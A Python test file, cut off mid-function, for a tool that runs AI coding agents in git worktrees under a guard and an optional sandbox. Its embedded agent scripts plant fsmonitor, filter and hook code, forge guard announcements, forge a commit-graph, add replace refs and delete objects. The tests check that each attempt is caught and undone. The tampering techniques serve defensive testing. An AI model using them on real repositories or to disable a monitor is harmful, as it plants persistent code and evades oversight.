"""The trust boundary, attacked: an agent cannot reach the user through git.

Each test is one attack, made by a real agent program in a real run of the real CLI, without
and with ``--sandbox``. Every one is caught (or impossible under the sandbox), the user's
repository comes back byte for byte (git's config, hooks and info, every ref, the checkout),
and code the agent planted never runs: the marker file it would create does not exist.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import filelock
import psutil
import pytest

from tests.conftest import git, git_first_on_path, make_repo
from tests.test_guard import checkout_state, one_after_another
from tests.test_run import (
    argv_toml,
    branch_file,
    manifest,
    status_json,
    swarm,
    swarm_bg,
    wait_for,
)
from tests.test_sandbox import needs_bwrap
from worktree_swarm.core.models import TaskState
from worktree_swarm.git.repo import open_repo
from worktree_swarm.guard import announcements, surface, surface_checks, surface_entry, surface_kept
from worktree_swarm.guard.ref_moves import moving_refs
from worktree_swarm.guard.watcher import Guard
from worktree_swarm.infra import starts
from worktree_swarm.infra.proctree import identity_of

AgentFactory = Callable[[str], list[str]]

MODES = [
    pytest.param(False, id="plain"),
    pytest.param(True, id="sandbox", marks=needs_bwrap),
]
# The same, the sandbox's case in the slow suite: where the guard, not the sandbox, is what
# stops the attack, the plain case holds the promise and the sandboxed one repeats it.
MODES_SANDBOX_SLOW = [
    pytest.param(False, id="plain"),
    pytest.param(True, id="sandbox", marks=[needs_bwrap, pytest.mark.slow]),
]


def git_files(common: Path) -> dict[str, tuple[str, bytes, int]]:
    """config, config.worktree, hooks/ and info/ of a git dir: kind, bytes, permission bits."""
    found: dict[str, tuple[str, bytes, int]] = {}
    for top in ("config", "config.worktree", "hooks", "info"):
        start = common / top
        paths = [start]
        if start.is_dir():
            paths += sorted(start.rglob("*"))
        for path in paths:
            if not os.path.lexists(path):
                continue
            mode = path.lstat().st_mode
            kind = "dir" if stat.S_ISDIR(mode) else "file"
            data = path.read_bytes() if kind == "file" else b""
            found[path.relative_to(common).as_posix()] = (kind, data, stat.S_IMODE(mode))
    return found


def repo_state(repo: Path) -> dict[str, object]:
    """Everything of the user's that an agent must not change."""
    refs = git(repo, "for-each-ref", "--format=%(refname) %(objectname)").splitlines()
    return {
        "git": git_files(repo / ".git"),
        "refs": [r for r in refs if not r.startswith(("refs/heads/swarm/", "refs/swarm/"))],
        "checkout": checkout_state(repo),
    }


def run_one(
    repo: Path, agent: list[str], *, sandbox: bool, task: str = "bad"
) -> subprocess.CompletedProcess[str]:
    path = manifest(repo, f'[[task]]\nid = "{task}"\nprompt = "p"\nagent = {argv_toml(agent)}\n')
    return swarm(repo, "run", path, *(["--sandbox"] if sandbox else []))


def outside_writes(repo: Path) -> list[dict[str, object]]:
    out = swarm(repo, "report", "--json")
    assert out.returncode == 0, out.stderr
    writes: list[dict[str, object]] = json.loads(out.stdout)["outside_writes"]
    return writes


def caught_or_impossible(repo: Path, *, sandbox: bool, what: str) -> None:
    """Without the sandbox the attack is caught and its task failed; with it, it is refused
    by the sandbox (nothing to catch) or caught the same way."""
    writes = outside_writes(repo)
    row = status_json(repo)["bad"]
    if not sandbox or writes:
        assert row["state"] == "failed", row
        assert "wrote outside its worktree" in str(row["reason"]), row
        assert what in str(row["reason"]), row
        assert all(w["suspects"] == ["bad"] for w in writes), writes
        assert all(w["restored"] for w in writes), writes


# -- planted config and hooks ------------------------------------------------------------------

COMMON = """
import os, pathlib, subprocess, sys
repo, marker = pathlib.Path(sys.argv[1]), sys.argv[2]
common = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
def attempt(action):
    try:
        action()
    except OSError:
        pass  # the sandbox said no
def append(path, text):
    with open(path, 'a') as out:
        out.write(text)
def hook(name):
    path = common / 'hooks' / name
    path.write_text(f'#!/bin/sh\\ntouch {marker}\\n')
    path.chmod(0o755)
pathlib.Path('work.txt').write_text('own work\\n')
"""

FSMONITOR = (
    COMMON
    + """
subprocess.run(['git', 'config', '--file', str(common / 'config'),
                'core.fsmonitor', f'touch {marker} #'], check=False)
"""
)

FILTER = (
    COMMON
    + """
attempt(lambda: append(common / 'config',
        f'[filter "x"]\\n\\tclean = touch {marker}; cat\\n\\tsmudge = cat\\n'))
attempt(lambda: (common / 'info').mkdir(exist_ok=True))
attempt(lambda: append(common / 'info' / 'attributes', '* filter=x\\n'))
"""
)

REFERENCE_TRANSACTION = (
    COMMON
    + """
attempt(lambda: hook('reference-transaction'))
"""
)

POST_CHECKOUT = (
    COMMON
    + """
attempt(lambda: hook('post-checkout'))
"""
)


@pytest.mark.long
@pytest.mark.parametrize("sandbox", MODES)
@pytest.mark.parametrize(
    ("source", "what"),
    [
        pytest.param(FSMONITOR, "config", id="fsmonitor"),
        pytest.param(FILTER, "info/attributes", id="filter-attributes"),
        pytest.param(REFERENCE_TRANSACTION, "hooks/reference-transaction", id="hook-reftx"),
        pytest.param(POST_CHECKOUT, "hooks/post-checkout", id="hook-post-checkout"),
    ],
)
def test_planted_git_config_or_hook_is_undone_and_never_runs(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, source: str, what: str, sandbox: bool
) -> None:
    marker = tmp_path / "planted-code-ran"
    before = repo_state(repo)
    run_one(repo, [*write_agent(source), str(repo), str(marker)], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what=what)
    assert repo_state(repo) == before
    # The user's next git commands run nothing of the agent's either.
    git(repo, "checkout", "-q", "-b", "after-the-run")
    (repo / "new.txt").write_text("x\n")
    git(repo, "add", "new.txt")
    git(repo, "commit", "-qm", "after")
    assert not marker.exists()


def test_the_patch_of_a_planted_setting_holds_no_credential_of_yours(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    token = "ghs_" + "Q7" * 18
    url = f"https://x-access-token:{token}@github.com/o/r.git"
    git(repo, "config", "remote.origin.url", url)  # beside the line the agent adds
    run_one(repo, [*write_agent(FSMONITOR), str(repo), str(tmp_path / "m")], sandbox=False)
    (write,) = outside_writes(repo)
    patch = Path(str(write["patch"])).read_text()
    assert "fsmonitor" in patch  # what the agent planted is shown
    assert token not in patch
    assert git(repo, "config", "remote.origin.url") == url  # put back byte for byte


# -- switching the guard off -------------------------------------------------------------------

# Edits the checkout, moves `stable`, touches the old stamp and forges announcements of the
# move: one naming a process that does not hold the file, one its own (it is an agent).
SWITCH_OFF = """
import json, os, pathlib, subprocess, sys, time
import psutil
repo = pathlib.Path(sys.argv[1])
pathlib.Path('work.txt').write_text('own work\\n')
def git(*args):
    return subprocess.run(['git', '-C', str(repo), *args], check=True, capture_output=True,
                          text=True).stdout.strip()
def attempt(action):
    try:
        return action()
    except (OSError, subprocess.CalledProcessError):
        return None
attempt(lambda: (repo / 'README.md').write_text('changed by an agent\\n'))
attempt(lambda: (repo / 'planted.py').write_text('print("planted")\\n'))
old = git('rev-parse', 'stable')
new = git('commit-tree', git('rev-parse', 'stable^{tree}'), '-p', old, '-m', 'evil')
attempt(lambda: git('update-ref', 'refs/heads/stable', new, old))
state = repo / '.git' / 'swarm'
attempt(lambda: (state / 'refs-changed.stamp').touch())
moves = state / 'ref-moves'
attempt(lambda: moves.mkdir(exist_ok=True))
claim = {'moves': [{'ref': 'refs/heads/stable', 'old': old, 'new': new}], 'done': True}
init = psutil.Process(1)
attempt(lambda: (moves / '1-forged.json').write_text(
    json.dumps({**claim, 'pid': 1, 'started': init.create_time()})))
me = psutil.Process()
own = moves / f'{me.pid}-forged.json'
held = attempt(lambda: open(own, 'w'))
if held is not None:
    # its start as swarm's own writers state theirs (the wall clock may have stepped since boot)
    from worktree_swarm.infra import starts
    held.write(json.dumps({**claim, 'pid': me.pid, 'started': starts.of(me)}))
    held.flush()
    deadline = time.time() + 30
    while time.time() < deadline and not own.with_name(own.name + '.verdict').exists():
        time.sleep(0.05)
"""


@pytest.mark.parametrize("sandbox", MODES)
def test_nothing_an_agent_writes_switches_the_guard_off(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    git(repo, "branch", "stable")
    before = repo_state(repo)
    run_one(repo, [*write_agent(SWITCH_OFF), str(repo)], sandbox=sandbox)
    assert repo_state(repo) == before
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "stable moved" in str(row["reason"])
    if not sandbox:
        summaries = " ".join(str(w["summary"]) for w in outside_writes(repo))
        assert "files README.md, planted.py in the main checkout" in summaries
        # The forged announcements were refused, and that is on record.
        errors = json.loads(swarm(repo, "status", "--json").stdout)["guard_errors"]
        reasons = " ".join(str(e["reason"]) for e in errors)
        assert "1-forged.json: its writer (pid 1)" in reasons  # another user's, or not holding it
        assert "written from task bad's agent" in reasons
        assert "ignored" in swarm(repo, "status").stdout


# -- deleted objects ---------------------------------------------------------------------------

DELETE_VICTIM_OBJECT = """
import pathlib, subprocess, sys
def git(*args):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True).stdout.strip()
tip = git('rev-parse', sys.argv[1])
common = pathlib.Path(git('rev-parse', '--path-format=absolute', '--git-common-dir'))
(common / 'objects' / tip[:2] / tip[2:]).unlink()
pathlib.Path('deleted.txt').write_text(tip + '\\n')
"""


@pytest.mark.parametrize("sandbox", MODES)
@pytest.mark.parametrize(
    "target", ["swarm/victim", "swarm/victim:victim.txt"], ids=["tip-commit", "blob"]
)
def test_a_deleted_object_of_another_branch_is_caught_and_the_work_kept(
    repo: Path, write_agent: AgentFactory, sandbox: bool, target: str
) -> None:
    victim = write_agent("import pathlib\npathlib.Path('victim.txt').write_text('v\\n')\n")
    bad = [*write_agent(DELETE_VICTIM_OBJECT), target]
    path = one_after_another(repo, [("victim", victim), ("bad", bad)])
    swarm(repo, "run", path, *(["--sandbox"] if sandbox else []))
    deleted = git(repo, "rev-parse", target)
    rows = status_json(repo)
    assert rows["victim"]["state"] == "done"
    assert rows["bad"]["state"] == "failed", rows["bad"]
    reason = str(rows["bad"]["reason"])
    assert "swarm/victim" in reason
    assert "no longer resolves to a complete commit" in reason
    # The object was really deleted, and is back: the victim's work is not lost.
    assert git(repo, "show", "swarm/bad:deleted.txt") == deleted
    assert git(repo, "show", "swarm/victim:victim.txt") == "v"
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    # (swarm/bad started from the victim's tip, so it is broken too.)
    writes = outside_writes(repo)
    assert "refs/heads/swarm/victim" in [r for w in writes for r in w["broken"]]  # type: ignore[attr-defined]
    assert all((w["suspects"], w["restored"]) == (["bad"], True) for w in writes), writes


# Your branch's objects moved out of the store into the agent's worktree (which `swarm clean`
# deletes), and an alternates file naming that copy, so that git still finds them all.
STEAL_OBJECTS = (
    COMMON
    + """
import shutil
store = pathlib.Path('.cache', 'objects').resolve()
pathlib.Path('.gitignore').write_text('.cache/\\n')
listed = subprocess.run(['git', '-C', str(repo), 'rev-list', '--objects', 'main'],
                        capture_output=True, text=True, check=True).stdout.split()
for sha in [word for word in listed if len(word) == 40]:
    source = common / 'objects' / sha[:2] / sha[2:]
    if source.exists():
        (store / sha[:2]).mkdir(parents=True, exist_ok=True)
        shutil.copyfile(source, store / sha[:2] / sha[2:])
        source.unlink()
attempt(lambda: (common / 'objects' / 'info' / 'alternates').write_text(f'{store}\\n'))
"""
)


@pytest.mark.long
@pytest.mark.parametrize("sandbox", MODES)
def test_your_objects_moved_out_behind_an_alternates_file_are_put_back(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    history = git(repo, "log", "-p", "main")
    run_one(repo, [*write_agent(STEAL_OBJECTS), str(repo), str(tmp_path / "m")], sandbox=sandbox)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "wrote outside its worktree" in str(row["reason"]), row
    assert all(w["restored"] for w in outside_writes(repo))
    assert not (repo / ".git" / "objects" / "info" / "alternates").exists()
    assert swarm(repo, "clean", "--yes").returncode == 0  # the agent's copy goes with it
    assert not (repo.parent / "repo.swarm" / "bad").exists()
    assert git(repo, "log", "-p", "main") == history
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


DELETE_DEEP_BLOB = (
    COMMON
    + """
blob = subprocess.run(['git', '-C', str(repo), 'rev-parse', 'main~1:README.md'],
                      capture_output=True, text=True, check=True).stdout.strip()
(common / 'objects' / blob[:2] / blob[2:]).unlink()
"""
)


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_an_object_deep_in_your_history_that_an_agent_deletes_is_back_after_the_run(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    (repo / "README.md").write_text("second\n")
    git(repo, "commit", "-qam", "second")
    run_one(repo, [*write_agent(DELETE_DEEP_BLOB), str(repo), str(tmp_path / "m")], sandbox=sandbox)
    assert git(repo, "show", "main~1:README.md") == "hello"
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    assert not list((repo / ".git" / "swarm" / "runs").glob("*/guard/held"))  # let go


def test_a_git_gc_during_the_run_is_not_undone_at_its_end(
    repo: Path, write_agent: AgentFactory
) -> None:
    for n in range(2):  # two packs of yours
        (repo / f"f{n}.txt").write_text(f"{n}\n")
        git(repo, "add", "-A")
        git(repo, "commit", "-qm", f"c{n}")
        git(repo, "repack", "-q")
    agent = write_agent("import subprocess\nsubprocess.run(['git', 'gc', '-q'], check=True)\n")
    assert swarm(repo, "run", "--agent", " ".join(agent), "-t", "t=x").returncode in (0, 1)
    packs = sorted((repo / ".git" / "objects" / "pack").glob("*.pack"))
    assert len(packs) == 1, packs  # gc's one pack, not the old ones linked back
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


# A commit graph that gives main's tip another root tree: your `git show main`, `git status`
# and `git reset --hard` then take a backdoor for your last commit. Its checksum made right.
FORGE_GRAPH = (
    COMMON
    + """
import hashlib, struct
def run(*args, text=True, data=None):
    return subprocess.run(['git', '-C', str(repo), *args], input=data, capture_output=True,
                          text=text, check=True).stdout
blob = run('hash-object', '-w', '--stdin', data='backdoor\\n').strip()
tree = run('mktree', data=f'100644 blob {blob}\\tREADME.md\\n').strip()
tip = bytes.fromhex(run('rev-parse', 'main').strip())
run('commit-graph', 'write', '--reachable')
path = common / 'objects' / 'info' / 'commit-graph'
data = bytearray(path.read_bytes())
chunks = {bytes(data[8 + 12 * i:12 + 12 * i]): struct.unpack('>Q', data[12 + 12 * i:20 + 12 * i])[0]
          for i in range(data[6] + 1)}
oids, commits = chunks[b'OIDL'], chunks[b'CDAT']
for n in range((commits - oids) // 20):
    if data[oids + 20 * n:oids + 20 * n + 20] == tip:
        data[commits + 36 * n:commits + 36 * n + 20] = bytes.fromhex(tree)
data[-20:] = hashlib.sha1(data[:-20]).digest()
def forge():
    path.chmod(0o644)
    path.write_bytes(bytes(data))
attempt(forge)
"""
)


@pytest.mark.parametrize("sandbox", MODES)
def test_a_commit_graph_that_lies_about_your_commits_is_removed(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    shown = git(repo, "show", "main")
    run_one(repo, [*write_agent(FORGE_GRAPH), str(repo), str(tmp_path / "m")], sandbox=sandbox)
    assert git(repo, "show", "main") == shown
    assert git(repo, "status", "--porcelain") == ""
    assert git(repo, "commit-graph", "verify") == ""
    if not sandbox:
        row = status_json(repo)["bad"]
        assert row["state"] == "failed", row
        assert "objects/info/commit-graph" in str(row["reason"]), row
        assert all(w["restored"] for w in outside_writes(repo))


# A replace ref: every git command of yours (not swarm's) reads the agent's commit for yours.
REPLACE_YOUR_COMMIT = """
import pathlib, subprocess
def git(*args):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True).stdout.strip()
pathlib.Path('README.md').write_text('backdoor\\n')
git('commit', '-qam', 'evil')
git('replace', git('rev-parse', 'main'), git('rev-parse', 'HEAD'))
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_a_replace_ref_that_swaps_your_commit_for_an_agents_is_removed(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    shown = git(repo, "show", "main")
    run_one(repo, write_agent(REPLACE_YOUR_COMMIT), sandbox=sandbox)
    assert git(repo, "for-each-ref", "refs/replace/") == ""
    assert git(repo, "show", "main") == shown
    git(repo, "reset", "-q", "--hard")
    assert (repo / "README.md").read_text() == "hello\n"
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "replace/" in str(row["reason"]), row
    assert all(w["restored"] for w in outside_writes(repo))


def test_a_commit_graph_git_writes_during_the_run_is_kept(
    repo: Path, write_agent: AgentFactory
) -> None:
    agent = write_agent(
        "import subprocess\n"
        "subprocess.run(['git', 'commit-graph', 'write', '--reachable'], check=True)\n"
        "open('f.txt', 'w').write('f')\n"
    )
    assert swarm(repo, "run", "--agent", " ".join(agent), "-t", "t=x").returncode == 0
    assert status_json(repo)["t"]["state"] == "done"
    assert (repo / ".git" / "objects" / "info" / "commit-graph").is_file()


def test_the_held_objects_of_a_run_whose_manager_died_are_let_go_by_the_next_run(
    repo: Path, write_agent: AgentFactory
) -> None:
    # As a manager killed mid-run leaves them: links that would pin what a `git gc` freed.
    stale = repo / ".git" / "swarm" / "runs" / "20260101-000000-dead" / "guard" / "held" / "ab"
    stale.mkdir(parents=True)
    (stale / "cdef").write_bytes(b"an object file, linked")
    agent = write_agent("open('f.txt', 'w').write('f')\n")
    assert swarm(repo, "run", "--agent", " ".join(agent), "-t", "t=x").returncode == 0
    assert not list((repo / ".git" / "swarm" / "runs").glob("*/guard/held"))


def _state(repo: Path, task: str) -> object:
    """*task*'s state in the latest run, None before there is one."""
    out = swarm(repo, "status", "--json")
    if out.returncode != 0:
        return None
    return next((t["state"] for t in json.loads(out.stdout)["tasks"] if t["task_id"] == task), None)


def _run_said(repo: Path) -> str:
    """What `swarm status --json` and the background run's output say (a failure's diagnosis)."""
    shown = swarm(repo, "status", "--json")
    log = (repo.parent / "bg.log").read_text(errors="replace")[-4000:]
    return f"{shown.stdout[-3000:]}{shown.stderr[-1000:]}\n{log}"


# The test touches the file named by the agent's second argument once the victim is done: the
# store is not the agent's to read (under --sandbox, `.git/swarm` is hidden from it).
WHEN_VICTIM_DONE = """
import pathlib, sys, time
while not pathlib.Path(sys.argv[2]).exists():
    time.sleep(0.05)
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_a_branch_deleted_with_its_tip_object_is_put_back(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    victim = write_agent("import pathlib\npathlib.Path('victim.txt').write_text('v\\n')\n")
    # The wrecker waits until the victim is done (its work packed by the guard), then deletes
    # its branch's tip object and its branch. It does not start from the victim's tip, whose
    # objects the checks after its own attempt would put back anyway.
    bad = write_agent(
        WHEN_VICTIM_DONE
        + DELETE_VICTIM_OBJECT
        + "git('update-ref', '-d', 'refs/heads/swarm/victim', tip)\n"
    )
    done = repo.parent / "victim-done"
    path = manifest(
        repo,
        f"""[[task]]\nid = "victim"\nprompt = "p"\nagent = {argv_toml(victim)}\n
[[task]]\nid = "wrecker"\nprompt = "p"
agent = {argv_toml([*bad, "swarm/victim", str(done)])}\n""",
    )
    running = swarm_bg(repo, "run", path, "--jobs", "2", *(["--sandbox"] if sandbox else []))
    try:
        ended = {"done", "failed", "no_changes", "timed_out", "stopped", "blocked"}
        try:
            wait_for(lambda: _state(repo, "victim") in ended, what="the victim to end")
        except pytest.fail.Exception:
            pytest.fail(f"the victim did not end:\n{_run_said(repo)}")
        assert _state(repo, "victim") == "done", _run_said(repo)
        done.touch()
        running.wait(timeout=120)
    finally:
        if running.poll() is None:
            running.kill()
    rows = status_json(repo)
    assert rows["victim"]["state"] == "done"
    assert rows["wrecker"]["state"] == "failed", rows["wrecker"]
    writes = outside_writes(repo)
    assert any("refs/heads/swarm/victim" in str(w["refs"]) for w in writes), writes
    assert all((w["suspects"], w["restored"]) == (["wrecker"], True) for w in writes), writes
    # The branch points at its old tip again, and that commit is back in the object store.
    assert git(repo, "rev-parse", "swarm/victim") == git(repo, "show", "swarm/wrecker:deleted.txt")
    assert git(repo, "show", "swarm/victim:victim.txt") == "v"
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


# -- places that were not watched --------------------------------------------------------------

LINKED_WORKTREE = """
import pathlib, sys
pathlib.Path('work.txt').write_text('own work\\n')
mine = pathlib.Path(sys.argv[1])
try:
    (mine / 'README.md').write_text('changed by an agent\\n')
    (mine / 'planted.txt').write_text('planted\\n')
except OSError:
    pass
"""


@pytest.mark.parametrize("sandbox", MODES)
def test_an_edit_in_the_users_other_worktree_is_caught_and_undone(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    mine = tmp_path / "mine"
    git(repo, "worktree", "add", "-q", "-b", "mine", str(mine))
    (mine / "draft.txt").write_text("my uncommitted draft\n")
    before, theirs = repo_state(repo), checkout_state(mine)
    run_one(repo, [*write_agent(LINKED_WORKTREE), str(mine)], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what=f"your worktree {mine}")
    assert checkout_state(mine) == theirs
    assert repo_state(repo) == before


def test_your_worktree_whose_path_is_not_utf8_is_watched_and_named_as_git_quotes_it(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    """Its path read as text with replacement characters named no directory: nothing of it
    was watched, and `swarm doctor` called it missing; kept as its bytes, it is watched, and
    shown escaped in one printable line (a crash of the run's manager when first kept)."""
    mine = Path(os.fsdecode(bytes(tmp_path) + b"/caf\xe9"))
    git(repo, "worktree", "add", "-q", "-b", "mine", str(mine))
    before, theirs = repo_state(repo), checkout_state(mine)
    agent = LINKED_WORKTREE.replace(
        "mine = pathlib.Path(sys.argv[1])",
        "import os; mine = pathlib.Path(os.fsdecode(bytes.fromhex(sys.argv[1])))",
    )
    run_one(repo, [*write_agent(agent), os.fsencode(mine).hex()], sandbox=False)
    caught_or_impossible(repo, sandbox=False, what=f'your worktree "{tmp_path}/caf\\351"')
    assert checkout_state(mine) == theirs
    assert repo_state(repo) == before
    doctor = swarm(repo, "doctor")
    assert doctor.returncode == 0, doctor.stderr
    assert "caf" not in doctor.stdout  # neither missing nor locked: it is yours, and there
    shutil.rmtree(mine)  # now it is gone: named as git quotes it, under a strict locale too
    gone = subprocess.run(
        [sys.executable, "-m", "worktree_swarm.cli", "doctor"],
        cwd=repo, capture_output=True, text=True, check=False,
        env={**os.environ, "PYTHONIOENCODING": "utf-8:strict"},
    )  # fmt: skip
    assert gone.returncode == 1, gone.stderr
    assert f'  "{tmp_path}/caf\\351": prunable' in gone.stdout


# Your linked worktree pointed at a copy of your repository the agent made, whose config runs
# its program: the copy has the same refs and objects, so git in that worktree sees no change.
REPOINT_LINKED_WORKTREE = """
import pathlib, shutil, subprocess, sys
mine, marker, what = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3]
common = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
admin = common / 'worktrees' / mine.name
pathlib.Path('.gitignore').write_text('.cache/\\n')
evil = pathlib.Path('.cache', 'git').resolve()
shutil.copytree(common, evil, ignore=shutil.ignore_patterns('swarm', 'worktrees'))
with open(evil / 'config', 'a') as out:
    out.write(f'[core]\\n\\tfsmonitor = "touch {marker}; false #"\\n')
evil_admin = evil / 'worktrees' / mine.name
shutil.copytree(admin, evil_admin)
(evil_admin / 'commondir').write_text(f'{evil}\\n')
try:
    if what == 'commondir':
        (admin / 'commondir').write_text(f'{evil}\\n')
    elif what == 'gitdir':  # your `git worktree prune` (a `git gc`) would drop its admin dir
        (admin / 'gitdir').write_text('/nonexistent/.git\\n')
    else:
        (mine / '.git').write_text(f'gitdir: {evil_admin}\\n')
except OSError:
    pass
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
@pytest.mark.parametrize("what", ["commondir", "gitdir", ".git"])
def test_your_linked_worktree_pointed_at_another_repository_is_put_back(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, sandbox: bool, what: str
) -> None:
    mine = tmp_path / "mine"
    git(repo, "worktree", "add", "-q", "-b", "mine", str(mine))
    admin = repo / ".git" / "worktrees" / "mine"
    files = {p: p.read_bytes() for p in (admin / "commondir", admin / "gitdir", mine / ".git")}
    marker = tmp_path / "m"
    run_one(
        repo, [*write_agent(REPOINT_LINKED_WORKTREE), str(mine), str(marker), what], sandbox=sandbox
    )
    assert {p: p.read_bytes() for p in files} == files
    git(mine, "status")
    assert not marker.exists()
    caught_or_impossible(repo, sandbox=sandbox, what=what)


EXCLUDE_THEN_FILE = """
import pathlib, subprocess, sys
pathlib.Path('work.txt').write_text('own work\\n')
repo = pathlib.Path(sys.argv[1])
common = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
try:
    with open(common / 'info' / 'exclude', 'a') as out:
        out.write('hidden.py\\n')
    (repo / 'hidden.py').write_text('print("planted")\\n')
except OSError:
    pass
"""

STASH = """
import pathlib, subprocess, sys
pathlib.Path('work.txt').write_text('own work\\n')
subprocess.run(['git', '-C', sys.argv[1], 'stash', '-u'], capture_output=True)
"""


@pytest.mark.long
@pytest.mark.parametrize("sandbox", MODES)
@pytest.mark.parametrize(
    ("source", "what"),
    [
        pytest.param(EXCLUDE_THEN_FILE, "info/exclude", id="info-exclude"),
        pytest.param(STASH, "", id="stash"),
    ],
)
def test_hidden_files_and_a_left_stash_are_caught_and_undone(
    repo: Path, write_agent: AgentFactory, source: str, what: str, sandbox: bool
) -> None:
    # The user has work in progress, which `stash -u` would take away.
    (repo / "README.md").write_text("my edit\n")
    (repo / "todo.txt").write_text("my untracked notes\n")
    before = repo_state(repo)
    run_one(repo, [*write_agent(source), str(repo)], sandbox=sandbox)
    caught_or_impossible(repo, sandbox=sandbox, what=what)
    assert repo_state(repo) == before
    assert not (repo / "hidden.py").exists()
    assert git(repo, "stash", "list") == ""


# Stashes work in the user's checkout twice, as the user would while the run goes on.
STASHES_IN_CHECKOUT = """
import pathlib, subprocess, sys
repo = sys.argv[1]
for n in ('one', 'two'):
    pathlib.Path(repo, 'README.md').write_text(f'work in progress {n}\\n')
    subprocess.run(['git', '-C', repo, 'stash', 'push', '-q', '-m', f'wip {n}'], check=True)
pathlib.Path('work.txt').write_text('work')
"""


DELETES_REF = """
import subprocess, sys
subprocess.run(['git', '-C', sys.argv[1], 'update-ref', '-d', sys.argv[2]], check=True)
open('work.txt', 'w').write('work')
"""


@pytest.mark.long
@pytest.mark.parametrize("earlier", [0, 2])
def test_a_stash_pushed_during_a_run_is_undone_but_kept_and_the_stash_list_reads_as_before(
    repo: Path, write_agent: AgentFactory, earlier: int
) -> None:
    # Put back, the stash list lost the new stash for good (no stash before: its ref and reflog
    # deleted, the commit left for `git gc`) or gained an entry with no message.
    for n in range(earlier):
        (repo / "README.md").write_text(f"older work {n}\n")
        git(repo, "stash", "push", "-q", "-m", f"older {n}")
    listed = git(repo, "stash", "list")
    run_one(repo, [*write_agent(STASHES_IN_CHECKOUT), str(repo)], sandbox=False)
    caught_or_impossible(repo, sandbox=False, what="stash moved")
    assert git(repo, "stash", "list") == listed
    kept = git(repo, "for-each-ref", "--format=%(refname)", "refs/swarm/undone/").split()
    shown = sorted(git(repo, "show", f"{ref}:README.md") for ref in kept)
    assert shown == ["work in progress one", "work in progress two"]
    (patch,) = (repo / ".git" / "swarm" / "runs").glob("*/guard/outside-*.patch")
    assert [f"# kept: {ref}" for ref in sorted(kept)] == sorted(
        line for line in patch.read_text().splitlines() if line.startswith("# kept: ")
    )
    # Watched like your branches from then on: a later run's agent deleting one is undone.
    run_one(repo, [*write_agent(DELETES_REF), str(repo), kept[0]], sandbox=False, task="bad2")
    assert git(repo, "for-each-ref", "--format=%(refname)", "refs/swarm/undone/").split() == kept


# -- swarm's own ref moves during a run --------------------------------------------------------

WAIT_FOR_FLAG = """
import pathlib, sys, time
flag = pathlib.Path(sys.argv[1])
pathlib.Path('slow.txt').write_text('slow\\n')
deadline = time.time() + 60
while time.time() < deadline and not flag.exists():
    time.sleep(0.05)
"""


@pytest.mark.long
@pytest.mark.parametrize(
    "command", [pytest.param("merge-into", marks=pytest.mark.slow), "merge", "clean"]
)
def test_swarm_merge_or_clean_during_a_run_is_told_to_the_guard_and_blamed_on_no_agent(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, command: str
) -> None:
    git(repo, "branch", "stable")
    first = manifest(repo, '[[task]]\nid = "a"\nprompt = "p"\n')
    agent = write_agent("import pathlib\npathlib.Path('a.txt').write_text('a\\n')\n")
    assert swarm(repo, "run", first, "--agent", " ".join(agent)).returncode == 0
    earlier = json.loads(swarm(repo, "status", "--json").stdout)["run_id"]
    flag = tmp_path / "flag"
    second = manifest(
        repo,
        '[[task]]\nid = "slow"\nprompt = "p"\n'
        f"agent = {argv_toml([*write_agent(WAIT_FOR_FLAG), str(flag)])}\n",
    )
    running = swarm_bg(repo, "run", second)
    try:
        wait_for(
            (repo.parent / "repo.swarm" / "slow" / "slow.txt").exists,
            what="the slow agent to run",
        )
        args = {
            "merge-into": ["merge", "--run", earlier, "--into", "stable"],
            "merge": ["merge", "--run", earlier],
            "clean": ["clean", "--run", earlier, "--yes", "--force"],
        }[command]
        done = swarm(repo, *args)
        assert done.returncode == 0, done.stderr
        flag.write_text("go\n")
        assert running.wait(timeout=60) == 0, (repo.parent / "bg.log").read_text()
    finally:
        if running.poll() is None:
            running.kill()
    if command == "clean":  # the branch stayed deleted
        assert git(repo, "branch", "--list", "swarm/a") == ""
    else:  # the merge stayed
        target = "stable" if command == "merge-into" else f"swarm/integration-{earlier}"
